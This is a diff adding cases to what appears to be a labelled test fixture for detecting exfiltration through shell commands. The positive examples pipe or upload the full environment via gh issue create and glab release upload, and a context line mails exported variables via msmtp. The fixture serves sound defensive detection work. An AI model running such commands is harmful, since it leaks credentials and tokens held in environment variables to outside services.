@@ -85,3 +85,10 @@ declare -px > /tmp/m
 msmtp -t < /tmp/m
 #@ neg a disk report mailed with sendmail -t
 { echo "To: a@h.example"; echo; df -h; } | sendmail -t
+#@ pos the environment posted as an issue by gh
+env | gh issue create -R o/r -t log -F -
+#@ pos the environment attached to a release by glab
+env > /tmp/e.txt
+glab release upload v1 /tmp/e.txt
+#@ neg a log posted as an issue by gh
+tail -n 50 build.log | gh issue create -R o/r -t log -F -
